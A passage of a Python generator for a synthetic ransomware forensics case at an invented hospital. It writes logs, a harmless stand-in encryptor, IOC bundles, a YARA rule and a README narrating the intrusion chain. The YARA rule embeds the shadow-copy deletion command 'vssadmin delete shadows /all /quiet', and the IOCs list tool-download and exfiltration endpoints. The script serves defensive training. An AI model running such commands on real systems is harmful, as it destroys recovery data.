            f"<189>1 {stamp} fw-edge01.dims.local trafficd - traffic - date={local:%Y-%m-%d} "
            f'time={local:%H:%M:%S} devname="FW-EDGE01" logid="00000000{13 + n % 2:02d}" {body}'
        )
    _write_lines(out / "network" / "FW-EDGE01" / "fw-edge01-traffic.log", lines)
    edr = sorted(c.edr, key=lambda x: (x[0], x[1]))
    elines = [json.dumps(r, ensure_ascii=False, separators=(",", ":")) for _, _, r in edr]
    _write_lines(out / "edr" / "mde-advanced-hunting-ehosp-db.jsonl", elines)
    return {
        "network/FW-EDGE01/fw-edge01-traffic.log": len(lines),
        "edr/mde-advanced-hunting-ehosp-db.jsonl": len(elines),
    }


def write_image_files(out: Path, rng: random.Random) -> None:
    """The collected-image files of EHOSP-DB01: the stand-in, a note, a few encrypted files."""
    root = out / "collection" / DB01
    (root / "Windows" / "Temp").mkdir(parents=True, exist_ok=True)
    (root / "Windows" / "Temp" / "svchosts.exe").write_text(STANDIN, encoding="utf-8", newline="\n")
    for folder in ("D/MSSQL/DATA", "C/Users/Public/Documents"):
        d = root / folder
        d.mkdir(parents=True, exist_ok=True)
        (d / NOTE_NAME).write_text(RANSOM_NOTE, encoding="utf-8", newline="\n")
    data = root / "D" / "MSSQL" / "DATA"
    for name in ("eHospital.mdf", "Pharmacy.mdf"):
        blob = b"DIMSLOCK-SYNTHETIC\x00" + rng.randbytes(2048)
        (data / f"{name}{LOCK_EXT}").write_bytes(blob)


# --- IOC lists ------------------------------------------------------------------------------

IOC_TIME = "2022-11-23T12:00:00.000Z"


def _sid(kind: str, key: str) -> str:
    return f"{kind}--{uuid.uuid5(uuid.NAMESPACE_URL, f'https://dims.example/ioc/{kind}/{key}')}"


def ioc_items() -> list[tuple[str, str, str, str]]:
    """(kind, value, STIX pattern, description) for every indicator of the case."""
    rclone = fake_hashes("rclone.exe")["SHA256"]
    return [
        ("ipv4", ATTACKER_IP, f"[ipv4-addr:value = '{ATTACKER_IP}']", "RDP password spray and access source"),
        ("ipv4", TOOL_IP, f"[ipv4-addr:value = '{TOOL_IP}']", "tool download server (t.zip, lx)"),
        ("ipv4", EXFIL_IP, f"[ipv4-addr:value = '{EXFIL_IP}']", "SFTP exfiltration target"),
        (
            "url",
            f"http://{TOOL_IP}/t.zip",
            f"[url:value = 'http://{TOOL_IP}/t.zip']",
            "Windows toolkit archive",
        ),
        ("url", f"http://{TOOL_IP}/lx", f"[url:value = 'http://{TOOL_IP}/lx']", "Linux encryptor"),
        (
            "domain",
            RANSOM_DOMAIN,
            f"[domain-name:value = '{RANSOM_DOMAIN}']",
            "contact domain in the ransom note",
        ),
        (
            "sha256",
            STANDIN_SHA256,
            f"[file:hashes.'SHA-256' = '{STANDIN_SHA256}']",
            "svchosts.exe (DIMSLOCK encryptor; harmless stand-in in this synthetic case)",
        ),
        (
            "sha256",
            rclone,
            f"[file:hashes.'SHA-256' = '{rclone}']",
            "rclone.exe used for exfiltration (generated)",
        ),
    ]


def defang(ip: str) -> str:
    """CERT-In style defanging: the last dot in brackets (``203.0.113[.]45``)."""
    head, _, tail = ip.rpartition(".")
    return f"{head}[.]{tail}"


def write_iocs(out: Path) -> None:
    """STIX 2.1 bundle, MISP event, CERT-In style defanged text, and the YARA rule."""
    d = out / "iocs"
    d.mkdir(parents=True, exist_ok=True)
    ident = _sid("identity", "dims-csirt")
    objects: list[dict[str, Any]] = [
        {
            "type": "identity",
            "spec_version": "2.1",
            "id": ident,
            "created": IOC_TIME,
            "modified": IOC_TIME,
            "name": "DIMS CSIRT (synthetic)",
            "identity_class": "organization",
        }
    ]
    malware = _sid("malware", "dimslock")
    objects.append(
        {
            "type": "malware",
            "spec_version": "2.1",
            "id": malware,
            "created": IOC_TIME,
            "modified": IOC_TIME,
            "created_by_ref": ident,
            "name": "DIMSLOCK (synthetic)",
            "is_family": True,
            "malware_types": ["ransomware"],
            "description": SYNTHETIC,
        }
    )
    for kind, value, pattern, desc in ioc_items():
        ind = _sid("indicator", value)
        objects.append(
            {
                "type": "indicator",
                "spec_version": "2.1",
                "id": ind,
                "created": IOC_TIME,
                "modified": IOC_TIME,
                "created_by_ref": ident,
                "name": f"{kind} {value}",
                "description": f"{desc}. {SYNTHETIC}",
                "indicator_types": ["malicious-activity"],
                "pattern": pattern,
                "pattern_type": "stix",
                "valid_from": "2022-11-22T15:30:00Z",
                "labels": ["dims-case", "synthetic"],
            }
        )
        objects.append(
            {
                "type": "relationship",
                "spec_version": "2.1",
                "id": _sid("relationship", value),
                "created": IOC_TIME,
                "modified": IOC_TIME,
                "relationship_type": "indicates",
                "source_ref": ind,
                "target_ref": malware,
            }
        )
    bundle = {"type": "bundle", "id": _sid("bundle", "dims-case"), "objects": objects}
    _write_json(d / "dims-case.stix2.json", bundle)

    misp_type = {"ipv4": "ip-dst", "url": "url", "domain": "domain", "sha256": "sha256"}
    category = {
        "ipv4": "Network activity",
        "url": "Network activity",
        "domain": "Network activity",
        "sha256": "Payload delivery",
    }
    attrs = [
        {
            "uuid": str(uuid.uuid5(uuid.NAMESPACE_URL, f"https://dims.example/misp/{value}")),
            "type": misp_type[kind],
            "category": category[kind],
            "value": value,
            "to_ids": True,
            "comment": desc,
            "timestamp": "1669204800",
            "distribution": "0",
        }
        for kind, value, _, desc in ioc_items()
    ]
    attrs.append(
        {
            "uuid": str(uuid.uuid5(uuid.NAMESPACE_URL, "https://dims.example/misp/filename")),
            "type": "filename",
            "category": "Artifacts dropped",
            "value": "svchosts.exe",
            "to_ids": False,
            "comment": "masquerades as svchost.exe",
            "timestamp": "1669204800",
            "distribution": "0",
        }
    )
    misp = {
        "Event": {
            "uuid": str(uuid.uuid5(uuid.NAMESPACE_URL, "https://dims.example/misp/event")),
            "info": f"DIMSLOCK ransomware at DIMS hospital ({SYNTHETIC})",
            "date": "2022-11-23",
            "threat_level_id": "1",
            "analysis": "2",
            "distribution": "0",
            "published": False,
            "timestamp": "1669204800",
            "Orgc": {"name": "DIMS CSIRT (synthetic)"},
            "Tag": [{"name": "tlp:amber"}, {"name": 'misp-galaxy:ransomware="DIMSLOCK (synthetic)"'}],
            "Attribute": attrs,
        }
    }
    _write_json(d / "dims-case.misp.json", misp)

    rclone = fake_hashes("rclone.exe")["SHA256"]
    spaced = STANDIN_SHA256[:32] + " " + STANDIN_SHA256[32:]  # as pasted from a PDF advisory
    text = f"""\
CERT-In style advisory extract - {SYNTHETIC}
Ransomware targeting healthcare: DIMSLOCK (synthetic)
Indicators of compromise (defanged; block at perimeter and hunt internally)

IP addresses:
  {defang(ATTACKER_IP)}
  {defang(TOOL_IP)}
  {defang(EXFIL_IP)}

URLs:
  hxxp://{defang(TOOL_IP)}/t.zip
  hxxp://{defang(TOOL_IP)}/lx

Domains:
  {RANSOM_DOMAIN.replace(".", "[.]")}

SHA-256:
  {spaced}   svchosts.exe
  {rclone}   rclone.exe

File names: svchosts.exe, README_TO_DECRYPT.txt, *{LOCK_EXT}
"""
    (d / "certin-advisory-dimslock.txt").write_text(text, encoding="utf-8", newline="\n")
    (d / "dims_standin.yar").write_text(YARA_RULE, encoding="utf-8", newline="\n")


def _yara_hex(text: str) -> str:
    """A YARA hex string: the rule file then does not contain (and match) its own strings."""
    return "{ " + " ".join(f"{b:02X}" for b in text.encode()) + " }"


YARA_RULE = f"""\
/* {SYNTHETIC}. Matches the harmless ransomware stand-in of the demo case.
   Strings are written in hex so that this file does not match itself. */
rule DIMS_Synthetic_Ransomware_Standin
{{
    meta:
        description = "DIMSLOCK ransomware stand-in (synthetic demo case, harmless text file)"
        author = "forensics demo generator"
        date = "2022-11-23"
        attack = "T1486"
        severity = "critical"
    strings:
        $marker = {_yara_hex(STANDIN_MARKER)}
        $ext = {_yara_hex(LOCK_EXT)}
        $note = {_yara_hex(NOTE_NAME)}
        $msg = {_yara_hex("ALL YOUR FILES HAVE BEEN ENCRYPTED BY DIMSLOCK")}
        $vss = {_yara_hex("vssadmin delete shadows /all /quiet")}
    condition:
        $marker or (4 of ($ext, $note, $msg, $vss))
}}
"""


def _write_json(path: Path, obj: Any) -> None:
    path.write_text(json.dumps(obj, indent=2, ensure_ascii=False) + "\n", encoding="utf-8", newline="\n")


# --- expected steps and README --------------------------------------------------------------


def expected_steps(c: Case) -> list[dict[str, Any]]:
    """Per step: hosts, true UTC window, techniques, and how to find its events."""
    out = []
    for n in sorted(c.steps):
        s = c.steps[n]
        assert s.start is not None and s.end is not None, f"step {n} produced no events"
        out.append(
            {
                "step": n,
                "title": s.title,
                "hosts": [h for h in s.hosts if h != "FW-EDGE01"],
                "utc_start": s.start.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
                "utc_end": s.end.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
                "ist_start": s.start.astimezone(IST).strftime("%Y-%m-%dT%H:%M:%S+05:30"),
                "ist_end": s.end.astimezone(IST).strftime("%Y-%m-%dT%H:%M:%S+05:30"),
                "attack": list(s.attack),
                "evidence": s.evidence,
            }
        )
    return out


def write_meta(c: Case, out: Path, counts: dict[str, int]) -> None:
    """expected_steps.json and collection/manifest.json (what was collected, when, zones)."""
    _write_json(
        out / "expected_steps.json",
        {
            "note": SYNTHETIC,
            "time": "utc_* are true times (LIS-APP01's logged times read 3 min 40 s later); windows are inclusive",
            "clock_skew": {LIS: "+00:03:40"},
            "steps": expected_steps(c),
        },
    )
    manifest = {
        "note": SYNTHETIC,
        "case": "DIMS-2022-11-23 (synthetic)",
        "collected_ist": "2022-11-23T09:40:00+05:30",
        "collected_utc": "2022-11-23T04:10:00Z",
        "hosts": {
            h: {
                "ip": IP[h],
                "os": "Linux (Ubuntu 22.04)" if h.startswith("LNX") else "Windows Server 2019",
                "timezone": "Asia/Kolkata" if h.startswith("LNX") else "India Standard Time (logs in UTC)",
            }
            for h in (TS01, DC01, DB01, DB02, LIS, ES01, BKP01)
        },
        "files": counts,
    }
    _write_json(out / "collection" / "manifest.json", manifest)


def write_extra_hosts(out: Path, opts: Options) -> dict[str, int]:
    """Large mode: benign workstations, generated and written one host at a time (bounded memory)."""
    counts: dict[str, int] = {}
    for i in range(opts.extra_hosts):
        host = f"WS-{i:04d}"
        mini = Case(
            Options(
                seed=opts.seed * 100_003 + i,
                days=opts.days,
                encrypt_files=opts.encrypt_files,
                extra_hosts=opts.extra_hosts,
            )
        )
        for day in background_days(opts):
            windows_background(mini, day, (host,), _day(day, "23:59:59"))
        windows_background(mini, 23, (host,), ist(23, "09:10:00"))
        logs = out / "collection" / host / "Windows" / "System32" / "winevt" / "Logs"
        for (_h, ch), items in sorted(mini.win.items()):
            events = [e for _, _, e in sorted(items, key=lambda x: (x[2].ts, x[1]))]
            path = logs / f"{_log_file(CH[ch])}.evtx"
            write_evtx(path, events, first_record_id=record_base(host, ch))
            counts[str(path.relative_to(out))] = len(events)
    return counts


README = """\
# sample_data/: the DIMS hospital ransomware case (SYNTHETIC)

**Everything in this folder is synthetic.** It was written by `scripts/make_sample_data.py`
(deterministic: the same command gives the same bytes) and describes an invented incident at an
invented hospital, "DIMS" (Demo Institute of Medical Sciences, domain `dims.local`). It is modelled
loosely on what is publicly known of a November 2022 ransomware attack on a large public hospital in
Delhi; the ransomware family, the entry point, every name, host, account, hash and address here are
made up. IP addresses come only from RFC 1918 (internal) and RFC 5737 (external: 203.0.113.0/24,
198.51.100.0/24, 192.0.2.0/24) ranges; hashes are hashes of generated text and match no real file;
domains use the reserved `.example` top-level domain. There is no malware here: `svchosts.exe` is a
plain text file.

Regenerate with `python scripts/make_sample_data.py` (a test checks that the committed files equal
the generator's output). For benchmarks, `--hosts N --days D` adds N benign workstations and D days of
background (about 700 events per host and day, so `--out /tmp/big --hosts 400 --days 7` writes about
2 million events); such a case must be written outside the repository.

## Hosts

| host | IP | role | what its logs show |
|---|---|---|---|
| WIN-TS01 | 10.10.5.20 | RDP jump host, NAT-exposed to the internet | patient zero: spray, RDP, discovery, tools, LSASS dump, rclone exfiltration |
| DC01 | 10.10.1.10 | domain controller (and the WEF collector) | RDP from WIN-TS01, NTDS copy, backdoor admin, PsExec and schtasks to the servers |
| EHOSP-DB01 / EHOSP-DB02 | 10.10.2.11 / .12 | SQL Server, e-Hospital database | AV disabled, SQL stopped, shadows deleted, **encrypted** |
| LIS-APP01 | 10.10.3.21 | lab information system | **encrypted**; its clock runs **3 min 40 s fast** |
| LNX-ES01 | 10.10.7.31 | Ubuntu, Elasticsearch | SSH with a reused password, encryptor download, **encrypted**, auth.log truncated |
| LNX-BKP01 | 10.10.7.40 | backup server | brute force on root fails: **survives**, restores come from here |

External: 203.0.113.45 (spray and RDP source), 198.51.100.23 (tool server), 192.0.2.77 (exfiltration
over SFTP). The firewall's public address is 192.0.2.10.

## What is in the folder

| path | format |
|---|---|
| `collection/WIN-TS01/`, `DC01/`, `EHOSP-DB01/` `Windows/System32/winevt/Logs/*.evtx` | binary EVTX as collected from the hosts (Security, System, Application, Sysmon, PowerShell, TerminalServices, TaskScheduler, Defender) |
| `collection/DC01/Windows/System32/winevt/Logs/ForwardedEvents.evtx` | the Security and System events all five Windows hosts forwarded (WEF) **before the logs were cleared**: original `Computer` and `EventRecordID` kept |
| `collection/EHOSP-DB02/Windows/...` and `collection/EHOSP-DB02/evtx_dump/*.jsonl` | EVTX, except Sysmon as evtx-JSON lines (`evtx_dump -o jsonl`) |
| `collection/LIS-APP01/wevtutil/*.xml` | `wevtutil qe <log> /f:xml` exports (`<Events>` wrapper) |
| `collection/LNX-ES01/var/log/auth.log`, `auth.log.1` | RFC 3164, local time (IST), **no year**; `auth.log` was truncated by the attacker, `auth.log.1` (rotated at 06:25 IST) survived |
| `collection/LNX-BKP01/var/log/auth.log` | as above |
| `collection/LNX-ES01/var/log/audit/audit.log` | auditd, epoch UTC, `node=` prefix; SYSCALL/EXECVE/CWD/PATH/PROCTITLE share a serial |
| `collection/LNX-*/journal/journalctl-o-json.json` | `journalctl -o json` export of the system units (systemd, logrotate, elasticsearch, the backup job; sshd/sudo/cron are in auth.log only, so nothing is counted twice); `__REALTIME_TIMESTAMP` in microseconds, UTC |
| `collection/LNX-*/etc/timezone`, `etc/hostname` | the Linux hosts' zone (Asia/Kolkata) and name |
| `collection/EHOSP-DB01/Windows/Temp/svchosts.exe` | the harmless ransomware stand-in (text) |
| `collection/EHOSP-DB01/{{C,D}}/.../README_TO_DECRYPT.txt`, `*.dims_locked` | ransom notes and two "encrypted" files (random bytes) |
| `collection/manifest.json` | collection time (2022-11-23 09:40 IST), hosts, zones, record counts per file |
| `network/FW-EDGE01/fw-edge01-traffic.log` | perimeter firewall, RFC 5424 with `+05:30` offsets, key=value traffic logs |
| `edr/mde-advanced-hunting-ehosp-db.jsonl` | Defender for Endpoint advanced hunting (streaming API JSON: DeviceProcessEvents, DeviceFileEvents, DeviceNetworkEvents) for EHOSP-DB01/02 |
| `iocs/dims-case.stix2.json`, `dims-case.misp.json`, `certin-advisory-dimslock.txt` | the case's IOCs as a STIX 2.1 bundle, a MISP event and a defanged CERT-In style list (`203.0.113[.]45`, `hxxp://`, a SHA-256 with a stray space) |
| `iocs/dims_standin.yar` | YARA rule that matches `svchosts.exe` |
| `expected_steps.json` | per scenario step: hosts, true UTC window, ATT&CK techniques, how to find its records |

Windows `SystemTime` values are UTC. LIS-APP01's events carry its fast clock (they read 3 min 40 s
late); `expected_steps.json` gives true times. Record counts: {n_records} records in {n_files} log files.

## The attack (IST; UTC = IST - 5:30)

{steps_table}

Step 22 (not in the logs): at 09:15 IST responders isolate the hosts, collect triage images and hash
them; the custody log and the CERT-In 6-hour reporting clock start.

## Benign activity that must not raise high-severity findings

Nightly SQL backups at 01:00 IST on EHOSP-DB01/02 (scheduled task `\\DIMS\\NightlyBackup`, `sqlcmd
BACKUP DATABASE`, a legitimate `vssadmin list shadows`), the nightly backup pull on LNX-BKP01 (cron
01:30), admin RDP from the IT subnet 10.10.9.0/24 (it.rao, adm.sharma), Defender signature updates
(event 2000), normal SSH logins with keys from 10.10.9.15, hourly cron sessions, machine-account
logons and Kerberos tickets, LIS-APP01's time-service warnings, routine outbound HTTPS.

## What the case should reveal

- **Patient zero**: WIN-TS01. **Entry**: RDP from 203.0.113.45 through the NAT rule, after a password
  spray (180 failures, 40 names), as `DIMS\\helpdesk01`.
- **Lateral movement**: WIN-TS01 -> DC01 (RDP as `adm.sharma`, credentials from the LSASS dump) ->
  EHOSP-DB01, EHOSP-DB02, LIS-APP01 (PsExec, C$ copy, scheduled task); WIN-TS01 -> LNX-ES01 (SSH);
  LNX-ES01 -> LNX-BKP01 (failed brute force).
- **Exfiltration**: about 4.1 GB (4402341478 bytes) of the DB backup share to 192.0.2.77:22 with rclone.
- **Encrypted hosts**: EHOSP-DB01, EHOSP-DB02, LIS-APP01, LNX-ES01. **Surviving backup**: LNX-BKP01.
- **Cleared logs**: Security (1102) and System (104) cleared on all five Windows hosts between 06:38
  and 06:41 IST; the forwarded copy on DC01 still holds what was cleared. LNX-ES01's auth.log was
  truncated (and `history -c` run, seen in audit.log); `auth.log.1` (rotated at 06:25 IST, the journal
  shows logrotate running) still holds the SSH logon, and audit.log and the journal's session scope
  corroborate it.
- **Clock skew**: LIS-APP01 +00:03:40, learnable from events that pair with DC01 (LIS-APP01 4648 to
  DC01 vs DC01 4624/4769 from 10.10.3.21; DC01's PsExec 4648 vs LIS-APP01's 4624 type 3) and from its
  time-service warnings.
- **Yearless auth.log**: the year (2022) has to be inferred (collection time in `collection/manifest.json`)
  and recorded as inferred.
"""


def steps_table(c: Case) -> str:
    """The README's markdown table of steps (IST, logged-host view)."""
    rows = ["| # | IST | host(s) | what happened | ATT&CK |", "|---|---|---|---|---|"]
    for s in expected_steps(c):
        start, end_ = s["ist_start"], s["ist_end"]
        when = f"{start[8:10]}-11 {start[11:16]}" + (f"-{end_[11:16]}" if end_[11:16] != start[11:16] else "")
        rows.append(
            f"| {s['step']} | {when} | {', '.join(s['hosts'])} | {s['title']} | {', '.join(s['attack'])} |"
        )
    return "\n".join(rows)


def generate(out: Path, opts: Options) -> dict[str, int]:
    """Write the whole case to ``out`` (replacing what the generator owns there)."""
    c = build(opts)
    for sub in ("collection", "network", "edr", "iocs"):
        if (out / sub).exists():
            shutil.rmtree(out / sub)
    out.mkdir(parents=True, exist_ok=True)
    counts = write_windows(c, out)
    counts.update(write_extra_hosts(out, opts))
    counts.update(write_linux(c, out))
    counts.update(write_network_edr(c, out))
    write_image_files(out, c.rng)
    write_iocs(out)
    counts = dict(sorted(counts.items()))
    write_meta(c, out, counts)
    readme = README.format(n_records=sum(counts.values()), n_files=len(counts), steps_table=steps_table(c))
    (out / "README.md").write_text(readme, encoding="utf-8", newline="\n")
    return counts


def main(argv: list[str] | None = None) -> int:
    """Command line entry point."""
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument(
        "--out", type=Path, default=REPO / "sample_data", help="output folder (default sample_data/)"
    )
    ap.add_argument("--hosts", type=int, default=0, help="extra benign Windows hosts (large case)")
    ap.add_argument("--days", type=int, default=1, help="days of benign background before the attack day")
    ap.add_argument("--seed", type=int, default=SEED, help="random seed (default: the committed case's)")
    args = ap.parse_args(argv)
    opts = Options(seed=args.seed, extra_hosts=args.hosts, days=max(1, args.days))
    if opts.large:
        opts.encrypt_files = 2000
        out = args.out.resolve()
        if out == REPO or REPO in out.parents:
            print(f"error: a large case must be written outside the repository (got {out})", file=sys.stderr)
            return 2
    counts = generate(args.out, opts)
    print(f"wrote {sum(counts.values())} records in {len(counts)} files to {args.out}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
